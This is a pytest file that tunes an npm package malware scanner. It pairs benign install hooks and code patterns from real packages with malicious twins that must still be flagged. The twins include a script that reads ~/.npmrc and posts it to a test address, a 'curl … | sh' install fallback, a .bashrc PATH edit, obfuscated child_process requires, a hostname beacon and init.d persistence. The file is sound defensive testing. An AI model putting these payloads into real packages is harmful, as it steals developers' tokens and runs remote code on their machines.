"""Round 13's second set of npm false-alarm classes (found on npm-deps once it was opened for
tuning, and on the tune half of npm-deps-2), each beside a malicious twin of the same shape
that must stay high with its threat.

Every fixture is built here; addresses are TEST-NET or ``.invalid``; nothing is ever run.
"""

from __future__ import annotations

import pytest

from app.core.archive import open_bytes
from app.core.capabilities.scan import scan_artifact
from tests.core.capabilities.npm_attacks import Attack

HIGH = ("high", "critical")

BANNER = "console.log('Thanks for installing demo-pkg. Docs: https://docs.example.invalid');\n"
STEALER = (
    "const fs = require('fs'), os = require('os'), https = require('https');\n"
    "const k = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
    "https.request({host: '192.0.2.10', method: 'POST', path: '/n'}).end(k);\n"
)
GYP = "{ 'targets': [ { 'target_name': 'demo', 'sources': [ 'src/demo.cc' ] } ] }\n"


def _scan(files, scripts=None, name="demo-pkg", version="1.0.0", extra=None):
    attack = Attack(name, files, set(), scripts or {}, version=version, extra=extra or {})
    return scan_artifact(open_bytes(attack.tarball(), "demo-pkg.tgz"))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


def _quiet(res) -> None:
    assert res.risk.level not in HIGH, [(t.id, t.steps) for t in res.threats]


# --- 1. a build or own-file hook with a fallback that only ends it or echoes a literal -----

FALLBACK_HOOKS = {
    "node-gyp with an echo": ("binding.gyp", GYP, "node-gyp rebuild || echo 'Build failed.'"),
    "node -e wrapper with exit 0": (
        "_postinstall.js",
        BANNER,
        " node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
    ),
    "own file with true": ("install.js", BANNER, "node install.js || true"),
}


@pytest.mark.parametrize("name", sorted(FALLBACK_HOOKS))
def test_a_fallback_that_only_ends_the_hook_adds_no_act(name):
    """bstring: ``node-gyp rebuild || echo 'Build failed.'``; es5-ext: ``node -e
    "try{require('./_postinstall')}catch(e){}" || exit 0``. The fallback keeps ``npm install``
    going when the build fails: it writes to the log and nowhere else."""
    path, text, cmd = FALLBACK_HOOKS[name]
    _quiet(_scan({"index.js": "module.exports = 1;\n", path: text}, {"install": cmd}))


@pytest.mark.parametrize(
    "cmd",
    [
        "node-gyp rebuild || curl -s http://192.0.2.7/p.sh | sh",
        "node-gyp rebuild || echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc",
    ],
)
def test_a_fallback_that_acts_keeps_the_hook_high(cmd):
    res = _scan({"index.js": "module.exports = 1;\n", "binding.gyp": GYP}, {"install": cmd})
    assert "place.install_time" in _ids(res)


def test_a_wrapped_file_with_a_fallback_is_judged_by_the_file():
    cmd = " node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0"
    res = _scan(
        {"index.js": "module.exports = 1;\n", "_postinstall.js": STEALER}, {"postinstall": cmd}
    )
    assert res.risk.level in HIGH and _ids(res) & {"place.install_time", "chain.exfiltration"}


def test_a_hook_of_fallbacks_alone_stays_as_it_was():
    """Nothing but ``exit 0`` is no build: the rule needs a real step beside the fallback."""
    res = _scan({"index.js": "module.exports = 1;\n"}, {"postinstall": "echo hi || exit 0"})
    hooks = [h for h in res.findings if h.capability == "install.script_hook"]
    assert hooks and hooks[0].severity == "high"


# --- 2. node running an own file with plain arguments; a hook naming an own bin command ----


def test_node_own_file_with_flags_is_judged_by_the_file():
    """cypress: ``node dist/index.js --exec install``."""
    files = {"index.js": "module.exports = 1;\n", "dist/index.js": BANNER}
    _quiet(_scan(files, {"postinstall": "node dist/index.js --exec install"}))
    files["dist/index.js"] = STEALER
    res = _scan(files, {"postinstall": "node dist/index.js --exec install"})
    assert res.risk.level in HIGH and _ids(res) & {"place.install_time", "chain.exfiltration"}


def test_a_hook_naming_an_own_bin_command_is_judged_by_its_file():
    """@npmcli/template-oss: ``"postinstall": "template-oss-apply"``, a command its own
    ``bin`` maps to ``bin/apply.js``; npm puts it on the hook's PATH."""
    extra = {"bin": {"demo-apply": "./bin/apply.js"}}
    files = {"index.js": "module.exports = 1;\n", "bin/apply.js": BANNER}
    _quiet(_scan(files, {"postinstall": "demo-apply"}, extra=extra))
    files["bin/apply.js"] = STEALER
    res = _scan(files, {"postinstall": "demo-apply --force"}, extra=extra)
    assert res.risk.level in HIGH and _ids(res) & {"place.install_time", "chain.exfiltration"}


def test_a_command_the_package_does_not_ship_stays_high():
    files = {"index.js": "module.exports = 1;\n", "bin/apply.js": BANNER}
    res = _scan(files, {"postinstall": "demo-apply"})
    assert "place.install_time" in _ids(res)


# --- 3. versioning schemes that look like dependency confusion -----------------------------

SCHEMES = {
    "calendar major of a typings package": ("@types/demo-compiler", "20231112.0.0"),
    "a scoped family's four-digit major": ("@demo/graph-sequencer", "1101.0.0"),
}


@pytest.mark.parametrize("name", sorted(SCHEMES))
def test_a_versioning_scheme_without_install_code_is_no_confusion(name):
    """@types/google-closure-compiler mirrors Closure's ``20231112.0.0``; pnpm's packages all
    carry ``1101.x``. Neither runs anything at install, where a confusion payload reports."""
    pkg, version = SCHEMES[name]
    _quiet(_scan({"index.js": "module.exports = 1;\n"}, name=pkg, version=version))


@pytest.mark.parametrize("name", sorted(SCHEMES))
def test_the_same_version_with_an_install_payload_stays_confusion(name):
    pkg, version = SCHEMES[name]
    res = _scan({"index.js": STEALER}, {"preinstall": "node index.js"}, name=pkg, version=version)
    assert "mismatch.dependency_confusion" in _ids(res)


def test_an_internal_name_with_a_big_major_stays_high_without_a_hook():
    res = _scan({"index.js": "module.exports = 1;\n"}, name="@acme/internal-auth", version="99.0.0")
    assert "mismatch.dependency_confusion" in _ids(res)


# --- 4. what a reader sees in a comment: pushed right, escaped, an example address -------

PAD = " " * 300
COMMENTED = {
    "a licence header pushed right": (
        "var a = 1;\n/**\n" + PAD + " * @copyright  2016 Demo Author (Demo Seed)\n */\n"
        "module.exports = a;\n"
    ),
    "escapes shown in an option's help": (
        '/*\n  unescape_strings - unescape \\xNN text, "example" vs '
        '"\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65"\n*/\nmodule.exports = function (s) { return s; };\n'
    ),
    "an example address": (
        "// Allows request.get('https://203.0.113.4/').set('Host', 'example.invalid')\n"
        "module.exports = function (req) { return req; };\n"
    ),
}


@pytest.mark.parametrize("name", sorted(COMMENTED))
def test_text_in_a_comment_is_documentation(name):
    """github-api, js-beautify, superagent: nothing runs a comment."""
    _quiet(_scan({"index.js": COMMENTED[name]}))


MEANT = {
    "code pushed right": (
        "var a = 1;\n" + PAD + "require('child_process').exec('id');\nmodule.exports = a;\n",
        "disguise.obfuscation",
    ),
    "escapes in a require": (
        "const m = require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73');\n"
        "m.exec('id');\n",
        "disguise.obfuscation",
    ),
    "an address posted to": (
        "const https = require('https');\n"
        "https.get('https://203.0.113.4/c?h=' + require('os').hostname());\n",
        "chain.exfil_endpoint",
    ),
}


@pytest.mark.parametrize("name", sorted(MEANT))
def test_the_same_text_in_code_stays_high(name):
    text, threat = MEANT[name]
    res = _scan({"index.js": text})
    assert res.risk.level in HIGH and threat in _ids(res), _ids(res)


# --- 5. fs required by a hidden name, to dodge a bundler ----------------------------------


def test_fs_hidden_from_a_bundler_is_no_disguise():
    """@typescript/vfs: ``require(String.fromCharCode(102, 115))`` keeps webpack from packing
    ``fs`` for the browser build; half of npm requires fs openly."""
    src = (
        "var requireFS = function requireFS() {\n"
        "  return require(String.fromCharCode(102, 115));\n};\n"
        "module.exports = function (p) { return requireFS().existsSync(p); };\n"
    )
    _quiet(_scan({"index.js": src}))


def test_child_process_hidden_the_same_way_stays_high():
    codes = ", ".join(str(ord(c)) for c in "child_process")
    src = f"var cp = require(String.fromCharCode({codes}));\ncp.exec('id');\n"
    res = _scan({"index.js": src})
    assert "disguise.obfuscation" in _ids(res)


# --- 6. an autostart location a command only lists -----------------------------------------


def test_listing_an_autostart_folder_installs_nothing():
    """systeminformation: ``execSync('ls /etc/init.d/ -m 2> /dev/null')`` lists services."""
    src = (
        "const { execSync } = require('child_process');\n"
        "module.exports = function () {\n"
        "  return execSync('ls /etc/init.d/ -m 2> /dev/null').toString().split(',');\n};\n"
    )
    _quiet(_scan({"index.js": src}))


def test_copying_into_an_autostart_folder_stays_persistence():
    src = (
        "const { execSync } = require('child_process');\n"
        "module.exports = function () {\n"
        "  execSync('cp ./demo /etc/init.d/demo && update-rc.d demo defaults');\n};\n"
    )
    res = _scan({"index.js": src})
    assert "impact.persistence" in _ids(res), _ids(res)
